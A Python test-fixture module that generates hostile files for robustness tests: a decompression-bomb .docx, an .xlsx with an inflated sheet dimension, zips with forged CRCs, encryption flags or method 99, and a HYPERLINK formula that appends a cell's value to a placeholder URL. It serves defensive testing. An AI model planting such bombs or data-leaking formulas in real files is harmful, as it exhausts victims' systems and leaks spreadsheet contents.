"""Small hostile files, made on the fly, for tests and `bench/bench_hostile_files.py` (issue #9): a bomb
.docx, a huge-dimension .xlsx, zips with a lying CRC, an encrypted entry or compression method 99, and
spreadsheets with formulas. Each is a few KB; what they would cost without the limits is the point.
Plain Python (openpyxl only for the .xlsx)."""

from __future__ import annotations

import io
import re
import struct
import zipfile

FORMULA_NAME = '=HYPERLINK("http://x"&B2,"查看附件")'

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(paragraphs: list[str]) -> bytes:
    body = b"".join(b"<w:p><w:r><w:t>" + p.encode() + b"</w:t></w:r></w:p>" for p in paragraphs)
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "word/document.xml": b"<w:document "
            + _W
            + b"><w:body>"
            + body
            + b"</w:body></w:document>",
        }
    )


def bomb_docx(paragraphs: int = 5_000_000) -> bytes:
    """document.xml with `paragraphs` empty paragraphs: ~30 MB unpacked, ~30-45 KB zipped."""
    body = b"<w:p/>" * paragraphs
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "word/document.xml": b"<w:document "
            + _W
            + b"><w:body>"
            + body
            + b"</w:body></w:document>",
        }
    )


def xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def huge_dimension_xlsx(header: list[str], ref: str = "A1:CV1048576") -> bytes:
    """A valid one-row workbook whose sheet declares `<dimension ref="A1:CV1048576"/>`."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([header])))
    members = {i.filename: source.read(i) for i in source.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = re.sub(
        rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), members[sheet]
    )
    return _zip(members)


def _patch_headers(data: bytes, offset_local: int, offset_central: int, fmt: str, value) -> bytes:
    """Overwrite one field in every local header (PK\\x03\\x04) and central entry (PK\\x01\\x02)."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", offset_local), (b"PK\x01\x02", offset_central)):
        start = 0
        while (at := out.find(signature, start)) >= 0:
            old = struct.unpack_from(fmt, out, at + offset)[0]
            struct.pack_into(fmt, out, at + offset, value(old))
            start = at + 4
    return bytes(out)


def lying_crc(data: bytes) -> bytes:
    """Every member's CRC-32 is wrong in both headers, so only reading the data can tell."""
    return _patch_headers(data, 14, 16, "<I", lambda crc: crc ^ 0xDEADBEEF)


def encrypted(data: bytes) -> bytes:
    """Every member flagged as encrypted (general-purpose bit 0)."""
    return _patch_headers(data, 6, 8, "<H", lambda flags: flags | 0x1)


def method_99(data: bytes) -> bytes:
    """Every member 'compressed' with method 99 (WinZip AES), which nobody here can read."""
    return _patch_headers(data, 8, 10, "<H", lambda method: 99)


def truncated(data: bytes) -> bytes:
    return data[: len(data) * 2 // 3]


def zip_of(members: dict[str, bytes]) -> bytes:
    return _zip(members)
